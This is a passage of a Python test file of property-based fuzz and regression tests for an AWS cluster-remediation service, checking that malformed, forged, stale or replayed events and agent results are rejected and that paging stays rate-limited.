            world.medic.deps.table.client.delete_item(TableName=TABLE, Key={"pk": {"S": pk}, "sk": {"S": sk}})


def claims_only(service: str, operation: str, params: dict) -> bool:
    """What recording a bad result may do: read the mode, read a command's context, claim its rejection
    and its one page (the incident's claim, and the cluster's window for the agent's word), and publish that page.
    (And a heartbeat in the batch: Medic's note of when it arrived, and its look for nodes Medic drained that are back:
    a Query of the cluster's repairs, flows/agent/slurm_node.resume_repaired_nodes.)"""
    if (service, operation) in (MODE_READ, ("dynamodb", "GetItem"), ("sns", "Publish")):
        return True
    if (service, operation) == ("dynamodb", "Query"):
        return params["ExpressionAttributeValues"][":pk"]["S"].startswith("slurmrepair#")
    window = params.get("Key", params.get("Item", {}))
    if operation in ("PutItem", "UpdateItem") and window.get("pk", {}).get("S", "").startswith(
            "pagewindow#agent_rejected#cluster:") and window.get("sk", {}).get("S") == "window":
        return True
    if (service, operation) != ("dynamodb", "PutItem"):
        return False
    item = params.get("Item", {})
    pk, sk = item.get("pk", {}).get("S", ""), item.get("sk", {}).get("S", "")
    return (pk.startswith("command#") and sk.startswith("rejected#")) or (
        pk.startswith("incident#agent:") and sk == "page") or (pk.startswith("agentseen#") and sk == "heartbeat")


def claims_and_expiry(service: str, operation: str, params: dict) -> bool:
    """What the results function may do with a batch: the claims above, and an expiry on an agent's own item whose
    own does not bound it (flows/agent/expiry.py: only `expires_at`, only under `agent#`)."""
    if (service, operation) == ("dynamodb", "UpdateItem"):
        return (params["Key"]["pk"]["S"].startswith("agent#")
                and params["UpdateExpression"] == "SET expires_at = :expires"
                and set(params["ExpressionAttributeValues"]) == {":expires"})
    return claims_only(service, operation, params)


@EXAMPLES
@given(raw=st.one_of(broken_results(), st.sampled_from(SKIPPED_RECORDS)))
def test_an_agent_result_medic_cannot_use_is_rejected_and_paged_once(world, raw):
    world.calls.allow = claims_only
    forget_claims(world, [raw])
    record = DynamoDBStreamRecordModel.model_validate(raw)
    result, lines = world.run(record_agent_result, record)
    if raw in SKIPPED_RECORDS or parse_agent_command_pk(raw["dynamodb"]["Keys"]["pk"]["S"]) is None:
        # not a result (or not under a key an agent can write): nothing recorded, nothing called
        assert (result, lines, world.calls.operations()) == (None, [], [])
        return
    assert not world.calls.forbidden, world.calls.forbidden
    assert isinstance(result, dict) and set(result) == RECORD_FIELDS
    assert (result["outcome"], result["fault"], result["action"], result["paged"]) == (
        "rejected", "invalid", "none", True)
    assert result["incident"].startswith(f"command:{CLUSTER}:") and len(result["incident"]) <= 8 + 63 + 1 + 64
    assert lines and {key: lines[-1][key] for key in result} == result
    json.dumps(lines[-1], ensure_ascii=False).encode("utf-8")
    # A redelivery of the same stream record writes nothing more.
    again, more = world.run(record_agent_result, record)
    assert (again, more) == (None, [])


@dataclass
class ResultsContext:
    function_name: str = "medic-agent-results"
    memory_limit_in_mb: int = 256
    invoked_function_arn: str = f"arn:aws:lambda:{REGION}:123456789012:function:medic-agent-results"
    aws_request_id: str = "00000000-0000-0000-0000-00000000f023"


@st.composite
def batches(draw: st.DrawFn) -> tuple[dict, set[str]]:
    """1-10 stream records (bad results and records to skip); some bad results meet a throttled ledger.
    At least one record goes through (when every record fails Powertools raises for the whole batch, by design)."""
    size = draw(st.integers(min_value=1, max_value=10))
    records, throttled, commands = [], set(), set()
    for index in range(size):
        sequence = f"{4421584500000000000000000000 + index}"
        record = draw(broken_results(sequence)) if draw(st.booleans()) else None
        if record is None or record["dynamodb"]["Keys"]["pk"]["S"] in commands:  # one result per command
            record = copy.deepcopy(draw(st.sampled_from(SKIPPED_RECORDS)))
            record["dynamodb"]["SequenceNumber"] = sequence
        else:
            commands.add(record["dynamodb"]["Keys"]["pk"]["S"])
            readable = parse_agent_command_pk(record["dynamodb"]["Keys"]["pk"]["S"]) is not None
            if index > 0 and readable and draw(st.booleans()):  # an unreadable key is skipped: no write to fail
                throttled.add(sequence)
        records.append(record)
    return {"Records": records}, throttled


@EXAMPLES
@given(batch=batches())
def test_the_agent_results_batch_reports_exactly_the_records_to_retry(world, monkeypatch, batch):
    event, throttled = batch
    monkeypatch.setattr(agent_results, "dependencies", lambda: world.deps)
    forget_claims(world, event["Records"])
    keys = {f"command#{parsed[0]}#{parsed[1]}": record["dynamodb"]["SequenceNumber"] for record in event["Records"]
            if record["dynamodb"]["Keys"]["sk"]["S"] == "result"
            and (parsed := parse_agent_command_pk(record["dynamodb"]["Keys"]["pk"]["S"])) is not None}
    world.calls.allow = claims_and_expiry
    world.calls.fail = lambda service, operation, params: "ProvisionedThroughputExceededException" if (
        operation == "PutItem" and keys.get(params["Item"]["pk"]["S"]) in throttled) else None
    try:
        response, _ = world.run(lambda raw, deps: agent_results.handler(raw, ResultsContext()), event)
    finally:
        world.calls.fail = lambda service, operation, params: None
    assert not world.calls.forbidden, world.calls.forbidden
    assert isinstance(response, dict) and set(response) == {"batchItemFailures"}
    assert [item["itemIdentifier"] for item in response["batchItemFailures"]] == [
        record["dynamodb"]["SequenceNumber"] for record in event["Records"]
        if record["dynamodb"]["SequenceNumber"] in throttled]
    assert not any(service == "sqs" for service, _ in world.calls.operations())


# --- what the properties found (fixed in b63a28e): kept as regression tests


def test_an_oversized_event_id_on_a_requeue_request_is_rejected(world):
    # It used to reach the ledger (`request#operator#<id>`, a hash key over 2048 bytes) and raise.
    event = copy.deepcopy(REQUEUE_SAMPLE)
    event["id"] = "x" * 5000
    assert_refused(world, *world.run(handle_requeue_event, event))


@pytest.mark.parametrize("sample,path,value", [
    (NODE_SAMPLE, "ClusterArn", "arn:aws:sagemaker:us-west-2:\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668"
                                "\u0669\u0660\u0661\u0662:cluster/k3v9q2w8x1za"),
    (JOB_SAMPLE, "TrainingJobArn", "arn:aws:sagemaker:us-west-2:\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668"
                                   "\u0669\u0660\u0661\u0662:training-job/ft-mistral-7b-0042"),
], ids=["cluster-arn", "training-job-arn"])
def test_unicode_digits_in_an_arn_are_rejected(world, sample, path, value):
    # `\d{12}` used to accept any Unicode digit (pydantic's regex engine), and the event went on to the API.
    event = copy.deepcopy(sample)
    event["detail"][path] = value
    entry = remediate_node if sample is NODE_SAMPLE else restart_training_job
    assert_refused(world, *world.run(entry, event))


def test_a_training_job_name_over_63_characters_is_rejected(world):
    # The name pattern bounds the alphanumerics, not the hyphens: any length used to pass.
    event = copy.deepcopy(JOB_SAMPLE)
    event["detail"]["TrainingJobName"] = "ft-" + "-" * 100 + "x"
    assert_refused(world, *world.run(restart_training_job, event))


def test_a_lone_surrogate_in_the_event_id_still_leaves_a_record(world):
    # A lone surrogate used to ride the event id into the record, whose log line then could not be written.
    event = copy.deepcopy(NODE_SAMPLE)
    event["id"] = json.loads('"5c1f4a2e-\\ud800"')
    record, lines = world.run(remediate_node, event)
    assert_refused(world, record, lines)
    assert record["event_id"] == "unknown"


def test_a_lone_surrogate_from_an_agent_result_still_leaves_a_record(world):
    # Text Medic does not validate (Slurm's output) reaches the record's reason: the record stays writable.
    world.calls.allow = lambda service, operation, params: service == "dynamodb" or (service, operation) == MODE_READ
    raw = copy.deepcopy(RESULT_RECORD)
    raw["dynamodb"]["NewImage"]["message"] = {"S": json.loads('"scontrol requeue 4211: \\udfff exit 0"')}
    forget_claims(world, [raw])
    AgentStore(world.medic.deps.table).record_command("6f1c2a7e-9b3d-4c1a-8e5f-2d7b9a0c4e13", CommandContext(
        incident=f"job:slurm:{CLUSTER}:4211", cluster=CLUSTER, job="4211", kind="requeue_job", target="4211",
        trigger=Trigger.OPERATOR, event_id="request-9"), NOW)
    record, lines = world.run(record_agent_result, DynamoDBStreamRecordModel.model_validate(raw))
    assert record["outcome"] == "executed"
    assert '"scontrol requeue 4211: \\udfff exit 0"' in record["reason"]  # quoted, escaped
    json.dumps(lines[-1], ensure_ascii=False).encode("utf-8")


def poison_batch(world: FuzzWorld, monkeypatch: pytest.MonkeyPatch, poison: dict) -> tuple[dict, list[dict]]:
    monkeypatch.setattr(agent_results, "dependencies", lambda: world.deps)
    world.calls.allow = claims_and_expiry
    return world.run(lambda raw, deps: agent_results.handler(raw, ResultsContext()),
                     {"Records": [poison, SKIPPED_RECORDS[1]]})


def test_a_stream_record_the_model_cannot_read_is_rejected_alone(world, monkeypatch):
    # A record that fails the stream model used to crash the whole batch inside Powertools.
    poison = copy.deepcopy(RESULT_RECORD)
    poison["eventName"] = "EXPLODE"
    response, lines = poison_batch(world, monkeypatch, poison)
    assert response == {"batchItemFailures": []}
    [record] = lines
    assert (record["outcome"], record["fault"], record["event_id"]) == ("rejected", "invalid", poison["eventID"])


@pytest.mark.parametrize("where,value", [(("dynamodb", "NewImage", "status"), {"Q": "executed"}),
                                         (("dynamodb", "Keys"), "not a map")], ids=["unknown-type", "keys-not-a-map"])
def test_a_stream_record_the_deserializer_chokes_on_is_rejected_alone(world, monkeypatch, where, value):
    # Powertools' deserializing validators raise TypeError/AttributeError, not a ValidationError: such a record
    # used to become a batch item failure, retried ten times though no retry can read it (fixed in 76fded7).
    poison = copy.deepcopy(RESULT_RECORD)
    node_at(poison, where[:-1])[where[-1]] = value
    response, lines = poison_batch(world, monkeypatch, poison)
    assert response == {"batchItemFailures": []}
    assert [(record["outcome"], record["event_id"]) for record in lines] == [("rejected", poison["eventID"])]


@pytest.mark.parametrize("raw", [None, [], 7, {}, {"Records": []}, {"Records": "x"}, {"Records": None}],
                         ids=["none", "list", "int", "empty", "no-records", "records-str", "records-null"])
def test_an_invocation_that_is_not_a_stream_batch_gets_an_empty_response(world, monkeypatch, raw):
    # Powertools used to raise (ValueError / UnexpectedBatchTypeError) for anything but a stream batch.
    monkeypatch.setattr(agent_results, "dependencies", lambda: world.deps)
    response, lines = world.run(lambda event, deps: agent_results.handler(event, ResultsContext()), raw)
    assert (response, lines) == ({"batchItemFailures": []}, [])
    assert not world.calls.forbidden


# --- issue 28: what no event may be to act, whatever its fields say (the edge: its time, its partition, a replay,
# an override that does not vouch for it). Each is one `rejected` record naming the field, no call, no page.

PARTITIONS = ("aws-us-gov", "aws-iso-b", "aws-iso", "aws-iso-f", "aws-iso-e", "aws-cn", "aws-eusc")
EDGE_SAMPLES = ((remediate_node, NODE_SAMPLE), (restart_training_job, JOB_SAMPLE), (respond_to_alarm, ALARM_SAMPLE),
                (handle_requeue_event, REQUEUE_SAMPLE), (record_cluster_event, CLUSTER_EVENT_SAMPLE))
LAST_MOMENT = datetime(9999, 12, 31, 23, 59, 59, tzinfo=UTC)
ABSURD_TIMES = ["0001-01-01T00:00:00+14:00", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59-12:00",
                "9999-12-31T23:59:59Z", "1970-01-01T00:00:00Z", 0, -1, 1_000_000_000_000, "2026-11-19T03:10:30+23:59"]


def iso(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


def forged_overrides(event_id: str) -> st.SearchStrategy[Any]:
    """What an override that vouches for nothing looks like: made for another event, incomplete, of the wrong type."""
    return st.one_of(
        st.builds(lambda other: {"event": other, "by": "mallory", "reason": "trust me"}, event_ids),
        st.just({"event": event_id}), st.just({"event": event_id, "by": "", "reason": "x"}),
        st.just({"event": event_id, "by": "mallory", "reason": "x", "extra": True}), WRONG_TYPES, HOSTILE_STRINGS)


@st.composite
def untimely(draw: st.DrawFn, sample: dict) -> tuple[dict, tuple[str, ...]]:
    """The sample, valid in every field, with one flaw the edge refuses; and the fields its record may name."""
    event = copy.deepcopy(sample)
    event["id"] = draw(event_ids)
    flaw = draw(st.sampled_from(["old", "ahead", "zoneless", "absurd", "partition", "override", "replay"]))
    old = NOW - EVENT_AGE_LIMIT - draw(st.timedeltas(min_value=timedelta(seconds=1), max_value=timedelta(days=3650)))
    if flaw == "old":
        event["time"] = iso(old)
    elif flaw == "ahead":
        ahead = draw(st.timedeltas(min_value=EVENT_CLOCK_SKEW + timedelta(seconds=1), max_value=timedelta(days=10**6)))
        event["time"] = iso(min(NOW + ahead, LAST_MOMENT))
    elif flaw == "zoneless":
        naive = draw(st.datetimes(min_value=datetime(2026, 11, 20), max_value=datetime(2026, 11, 22)))
        event["time"] = naive.isoformat()
    elif flaw == "absurd":
        event["time"] = draw(st.sampled_from(ABSURD_TIMES))
    elif flaw == "partition":
        partition = draw(st.sampled_from(PARTITIONS))
        arns = event["resources"] or [f"arn:aws:sagemaker:{REGION}:123456789012:cluster/k3v9q2w8x1za"]
        event["resources"] = [arn.replace("arn:aws:", f"arn:{partition}:", 1) for arn in arns]
        return event, ("resources",)
    elif flaw == "override":  # an old event with an override its author wrote (in the detail) or that vouches for none
        event["time"] = iso(old)
        override = draw(forged_overrides(event["id"]))
        if draw(st.booleans()) and isinstance(event["detail"], dict):
            event["detail"]["medic-redrive"] = {"event": event["id"], "by": "mallory", "reason": "trust me"}
        else:
            event["medic-redrive"] = override
        return event, ("time", "medic-redrive")  # a malformed override is named first
    else:
        event["replay-name"] = draw(st.sampled_from(["ops-investigation-20261120", "", "x" * 500]))
        return event, ("replay-name",)
    return event, ("time",)


def assert_no_action(world: FuzzWorld, record: Any, lines: list[dict], fields: tuple[str, ...]) -> None:
    """One `rejected` record naming the field, and nothing else: no call but the mode's read, no page."""
    assert isinstance(record, dict) and set(record) == RECORD_FIELDS, record
    assert (record["outcome"], record["action"], record["fault"], record["paged"]) == (
        "rejected", "none", "invalid", False), record
    # The field itself (`time:`) or, for an object, one of its members (`medic-redrive.event:`).
    assert any(f"{field}:" in record["reason"] or f"{field}." in record["reason"] for field in fields), (
        fields, record["reason"])
    assert not world.calls.forbidden, world.calls.forbidden
    assert set(world.calls.operations()) <= {MODE_READ}, world.calls.operations()
    assert len(lines) == 1 and {key: lines[0][key] for key in record} == record
    json.dumps(lines[0], ensure_ascii=False).encode("utf-8")


@FEWER
@given(case=st.sampled_from(EDGE_SAMPLES).flatmap(
    lambda pair: st.tuples(st.just(pair[0]), untimely(pair[1]))))
def test_no_event_acts_out_of_its_time_its_partition_or_as_a_replay(world, case):
    entry, (event, fields) = case
    assert_no_action(world, *world.run(entry, event), fields)


def test_every_kind_of_event_is_within_the_edge_as_sampled():
    """The property's baseline: the samples themselves pass the edge at the fuzz clock (so the flaw is what refuses)."""
    edge = {"edge": Edge(now=NOW, partition="aws", account="123456789012", region=REGION)}
    for model, sample in ((NodeHealthEvent, NODE_SAMPLE), (TrainingJobStateEvent, JOB_SAMPLE),
                          (AlarmStateChangeEvent, ALARM_SAMPLE), (RequeueJobEvent, REQUEUE_SAMPLE),
                          (ClusterEvent, CLUSTER_EVENT_SAMPLE), (ScheduleEvent, SCHEDULE_SAMPLE)):
        model.model_validate(sample, context=edge)


# --- the EKS agent's node report (`agent#<cluster>/nodes`): the agent's word, read by the reconciler's sweep

K8S_NAME = r"[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*"
REPORT_POD = {"namespace": "kubeflow", "name": f"{EKS_JOB}-worker-0", "job_kind": "PyTorchJob", "job_name": EKS_JOB,
              "phase": "Running", "terminating_since": None}
REPORT_NODE = {"name": "hyperpod-i-0a1b2c3d4e5f60718", "health_status": "Schedulable", "ready": False,
               "pods": [REPORT_POD]}
NODE_REPORT_SPECS = [Spec(("name",), full(K8S_NAME, 1, 253)),
                     Spec(("health_status",), lambda v: v is None or full(r"[A-Za-z]+", 1, 64)(v), optional=True),
                     Spec(("ready",), lambda v: isinstance(v, bool) or v in (0, 1, "true", "false", "0", "1", "yes",
                                                                            "no", "on", "off", "t", "f", "y", "n")),
                     Spec(("pods",), lambda v: isinstance(v, list) and len(v) <= 256, optional=True)]
REPORT_POD_SPECS = [Spec(("namespace",), full(r"[a-z0-9]([-a-z0-9]{0,61}[a-z0-9])?", 1, 63)),
                    Spec(("name",), full(K8S_NAME, 1, 253)), Spec(("job_kind",), text(0, 32)),
                    Spec(("job_name",), full(K8S_NAME, 1, 253)),
                    Spec(("terminating_since",), lambda v: v is None, optional=True)]  # None, or a zoned time


@st.composite
def broken_node_reports(draw: st.DrawFn) -> dict:
    """The `nodes` attribute of a report the EKS agent could not have written: not JSON, not a list of nodes, one
    field of one node or pod invalid (a time without a zone among them), or more nodes than a report holds."""
    shape = draw(st.sampled_from(["attribute", "node", "pod", "zoneless", "too_many"]))
    nodes = [copy.deepcopy(REPORT_NODE) for _ in range(draw(st.integers(min_value=1, max_value=3)))]
    if shape == "attribute":
        value = draw(st.one_of(st.just({"N": "1"}), st.just({"L": []}), st.builds(
            lambda raw: {"S": raw}, st.one_of(st.sampled_from(["", "{", "null", "[1]", '{"nodes": []}']),
                                              HOSTILE_STRINGS.map(lambda t: t[:50_000]).filter(
                                                  lambda t: not t.startswith("["))))))
        return value
    if shape == "too_many":
        return {"S": json.dumps([REPORT_NODE] * 501)}
    if shape == "zoneless":
        nodes[0]["pods"][0]["terminating_since"] = draw(
            st.datetimes(min_value=datetime(2026, 11, 1), max_value=datetime(2026, 11, 21))).isoformat()
        return {"S": json.dumps(nodes)}
    target, specs = (nodes[0], NODE_REPORT_SPECS) if shape == "node" else (nodes[0]["pods"][0], REPORT_POD_SPECS)
    spec = draw(st.sampled_from(specs))
    value = draw(st.one_of(WRONG_TYPES.filter(lambda v: not isinstance(v, int | float) or isinstance(v, bool)),
                           # json.dumps escapes a non-BMP character to 12 bytes: 20,000 of them stay under
                           # DynamoDB's 400 KB item limit, so the agent's own write can still succeed
                           HOSTILE_STRINGS.map(lambda t: t[:20_000])).filter(lambda v: not spec.valid(v)))
    target[spec.path[0]] = value
    return {"S": json.dumps(nodes, default=str)}


def report(world: FuzzWorld, nodes: dict) -> None:
    """The node report written as the EKS agent's role may write it (its own item)."""
    world.medic.deps.table.client.put_item(TableName=TABLE, Item={
        "pk": {"S": f"agent#{EKS_CLUSTER}"}, "sk": {"S": "nodes"}, "at": {"S": NOW.isoformat()},
        "host": {"S": "medic-agent-7c9d-x2"}, "version": {"S": "0.1.0"}, "nodes": nodes})


def reads_only(service: str, operation: str, params: dict) -> bool:
    return (service, operation) in (MODE_READ, ("dynamodb", "GetItem"), ("dynamodb", "Query"),
                                    ("dynamodb", "BatchGetItem"))


@FEWER
@given(nodes=broken_node_reports())
@example(nodes={"S": json.dumps([{**REPORT_NODE, "pods": [{**REPORT_POD, "terminating_since": "-1"}]}])})
def test_a_node_report_the_agent_could_not_have_written_is_read_and_nothing_else(world, nodes):
    from medic.flows.agent.eks_nodes import sweep_node_reports

    report(world, nodes)
    world.calls.allow = reads_only
    records, lines = world.run(sweep_node_reports, SCHEDULE_SAMPLE)
    assert (records, lines) == ([], [])
    assert not world.calls.forbidden, world.calls.forbidden


# --- at most one page per cluster per window, whatever a sender who can write floods Medic with


def pages_per_cluster(world: FuzzWorld) -> Counter[str]:
    """The pages published since the last reset, by the cluster their record names."""
    found: Counter[str] = Counter()
    for service, operation, params in world.calls.calls:
        if (service, operation) == ("sns", "Publish"):
            attribute = params.get("MessageAttributes", {}).get("record", {}).get("StringValue", "")
            cluster = re.search(r'"cluster": ?"([^"]*)"', attribute)
            found[cluster.group(1) if cluster else "-"] += 1
    return found


@FEWER
@given(batch=st.lists(st.tuples(st.sampled_from([CLUSTER, "other-slurm"]), broken_results()), min_size=2,
                      max_size=12))
def test_forged_agent_results_from_any_clusters_page_at_most_once_per_cluster(world, batch):
    world.calls.allow = lambda service, operation, params: service in ("dynamodb", "sns") or (
        (service, operation) == MODE_READ)
    records = []
    for cluster, raw in batch:
        for place in (raw["dynamodb"]["Keys"], raw["dynamodb"]["NewImage"]):
            place["pk"]["S"] = place["pk"]["S"].replace(f"agent#{CLUSTER}#", f"agent#{cluster}#", 1)
        records.append(raw)
    forget_claims(world, records)
    for cluster in (CLUSTER, "other-slurm"):
        world.medic.deps.table.client.delete_item(TableName=TABLE, Key={
            "pk": {"S": f"incident#agent:{cluster}:rejected"}, "sk": {"S": "page"}})
    world.calls.reset()
    for raw in records:
        record_agent_result(DynamoDBStreamRecordModel.model_validate(raw), world.deps)
    assert not world.calls.forbidden
    assert all(count <= 1 for count in pages_per_cluster(world).values()), pages_per_cluster(world)
    assert not any(service == "sqs" for service, _ in world.calls.operations())


def failing_nodes(count: int) -> dict:
    nodes = [{**REPORT_NODE, "name": f"hyperpod-i-0{index:016x}"} for index in range(count)]
    return {"S": json.dumps(nodes)}


@settings(FEWER, max_examples=10)
@given(count=st.integers(min_value=2, max_value=40))
def test_a_node_report_naming_many_failing_nodes_pages_at_most_once_for_the_cluster(world, count):
    from medic.flows.agent.eks_nodes import sweep_node_reports

    report(world, failing_nodes(count))
    world.calls.allow = lambda service, operation, params: service in ("dynamodb", "sns") or (
        (service, operation) == MODE_READ)
    world.run(sweep_node_reports, SCHEDULE_SAMPLE)
    assert not world.calls.forbidden
    assert pages_per_cluster(world)[EKS_CLUSTER] <= 1, pages_per_cluster(world)


# AWS's own events (a source no sender can forge: `aws.*` is EventBridge's) page their window's first page as it is
# and one summary (core.pages.PageWindow); the agent's word pages once per cluster per window (above).


@settings(FEWER, max_examples=5)
@given(count=st.integers(min_value=3, max_value=15))
def test_capacity_errors_for_many_instances_page_the_first_and_one_summary_per_window(world, count):
    world.calls.allow = lambda service, operation, params: service in ("dynamodb", "sns") or (
        (service, operation) == MODE_READ)
    pages = Counter[str]()
    for index in range(count):
        event = copy.deepcopy(CLUSTER_EVENT_SAMPLE)
        event["id"] = str(uuid.uuid4())
        event["detail"]["EventDetails"].update(EventId=str(uuid.uuid4()), InstanceId=f"i-0{index:016x}")
        world.run(record_cluster_event, event)
        pages.update(pages_per_cluster(world))
    assert pages[CLUSTER] <= 2, pages


@settings(FEWER, max_examples=5)
@given(flaps=st.integers(min_value=3, max_value=12))
def test_a_flapping_divergence_alarm_pages_the_first_and_one_summary_per_window(world, flaps):
    world.calls.allow = lambda service, operation, params: service in ("dynamodb", "sns") or (
        (service, operation) in (MODE_READ, ("cloudwatch", "GetMetricData")))  # the page names the last checkpoint
    pages, resolutions = 0, 0
    for flap in range(flaps):  # ALARM, OK, ALARM, ... a minute apart, each a transition of its own
        for offset, state in ((2 * flap, "ALARM"), (2 * flap + 1, "OK")):
            at = NOW - timedelta(minutes=2 * flaps - offset)
            event = copy.deepcopy(ALARM_SAMPLE)
            name = f"medic-divergence-{JOB}"
            event.update(id=str(uuid.uuid4()), time=iso(at),
                         resources=[f"arn:aws:cloudwatch:{REGION}:123456789012:alarm:{name}"])
            event["detail"]["alarmName"] = name
            event["detail"]["state"].update(value=state, timestamp=at.strftime("%Y-%m-%dT%H:%M:%S.000+0000"))
            world.run(respond_to_alarm, event)
            assert not world.calls.forbidden, world.calls.forbidden
            subjects = [params.get("Subject", "") for service, operation, params in world.calls.calls
                        if (service, operation) == ("sns", "Publish")]
            resolutions += sum(subject.endswith(" resolved") for subject in subjects)
            pages += sum(not subject.endswith(" resolved") for subject in subjects)
    # the first ALARM and the window's summary page; besides them only the first one's resolution (its OK)
    assert pages <= 2 and resolutions <= 1, (pages, resolutions)
